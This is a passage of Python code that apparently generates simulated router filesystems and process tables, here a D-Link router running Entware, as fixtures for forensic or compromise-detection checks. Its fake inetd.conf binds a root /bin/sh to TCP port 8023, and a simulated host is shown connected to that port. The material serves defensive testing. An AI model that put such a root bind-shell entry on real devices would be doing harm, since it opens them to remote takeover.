    tree.interface("eth0.2", 6, link=2)
    tree.interface("br-lan", 8, lower=["eth0.1", "phy0-ap0"])
    tree.interface("phy0-ap0", 9, upper=["br-lan"], master="br-lan")
    tree.answering([(1867, 1866)])


def dlink():
    """Adds to a vendor's router with Entware that was made by hand what later checks look at."""
    tree = Tree("dlink-dir860l-vendor-mipsel-entware", "little", "2.6.36", None, fresh=False)
    tree.libc, tree.heap = "/lib/libuClibc-0.9.33.2.so", "rwxp"
    busybox = "/bin/busybox"
    for pid, exe in [(1, busybox), (380, busybox), (382, busybox), (420, busybox), (431, busybox),
                     (440, "/usr/sbin/httpd (deleted)"), (455, busybox), (456, "/usr/bin/lxc-start"),
                     (611, "/mnt/sda1/entware/sbin/lighttpd"), (702, busybox)]:
        tree.process(pid, "", 0, [], exe, stat=False)
    tree.descriptor(382, 3)
    tree.process(390, "nvramd", 1, ["nvramd"], "/usr/sbin/nvramd", {4: "/dev/mtd2"})
    tree.descriptor(390, 4, "0100002")
    tree.process(405, "udhcpc", 1, ["udhcpc", "-i", "vlan2", "-s", "/usr/share/udhcpc/default.script"], busybox, {3: 1215})
    tree.process(445, "inetd", 1, ["inetd", "/etc/inetd.conf"], busybox, {3: 1231, 4: 1232})
    tree.process(720, "ftpd", 445, ["ftpd", "-l"], "/usr/sbin/ftpd", {0: 1233, 1: 1233, 2: 1233})
    # A shell on a socket, because inetd.conf says so.
    tree.process(721, "sh", 445, ["sh", "/etc/scripts/diag.sh"], busybox, {0: 1234, 1: 1234, 2: 1234})
    tree.file("etc/inetd.conf", "# Look-alike: the vendor's own test services.\nftp stream tcp nowait root /usr/sbin/ftpd "
              "ftpd -l\n8023 stream tcp nowait root /bin/sh sh /etc/scripts/diag.sh\n")
    tree.sockets("tcp", [
        ("0.0.0.0", 80, "0.0.0.0", 0, 10, 1221, 0), ("192.168.0.1", 23, "0.0.0.0", 0, 10, 1211, 0),
        ("0.0.0.0", 8080, "0.0.0.0", 0, 10, 1301, 0), ("192.168.0.1", 23, "192.168.0.50", 51000, 1, 1302, 0),
        ("0.0.0.0", 21, "0.0.0.0", 0, 10, 1231, 0), ("0.0.0.0", 8023, "0.0.0.0", 0, 10, 1232, 0),
        ("192.168.0.1", 21, "192.168.0.50", 51010, 1, 1233, 0),
        ("192.168.0.1", 8023, "192.168.0.50", 51011, 1, 1234, 0)])
    tree.packet([(2, 0x0800, 5, 1215)])
    for path in ["bin/busybox", "usr/sbin/httpd", "usr/sbin/ftpd", "usr/sbin/nvramd", "usr/bin/lxc-start",
                 "mnt/sda1/entware/sbin/lighttpd", "opt/sbin/lighttpd"]:
        tree.file(path, elf("little", interp="/lib/ld-uClibc.so.0"), 0o755)
    # Entware's lists know /opt and nothing of the vendor's; /opt is a directory of the disk, mounted a second time.
    tree.file("opt/lib/opkg/info/lighttpd.list", "/opt/etc/init.d/S80lighttpd\n/opt/sbin/lighttpd\n")
    tree.file("opt/lib/opkg/info/entware-opt.list", "/opt/etc/init.d/rc.func\n/opt/etc/init.d/rc.unslung\n")
    tree.file("var/log/messages", "kept\n")
    mountinfo(tree)
    tree.common()
    tree.interface("lo", 1, 0x49)
    tree.interface("eth2", 2)
    tree.interface("vlan1", 4, link=2)
    tree.interface("vlan2", 5, link=2)
    tree.interface("br0", 6)
    tree.file("sys/class/net/vlan1/brport")  # upper_ and lower_ came with Linux 3.9.
    tree.answering()


if __name__ == "__main__":
    for make in [archer, dlink, openwrt, g1_memory, g2_dropped, g3_names, g6_accounts, g7_listener, g10_dns, names, g13_packetdoor,
                 g14_relay, g14_tunnel, services, g15_scan, firewall, g9_redirect, g12_startup, g16_watchdog, g17_hiding, intruder,
                 asus]:
        make()
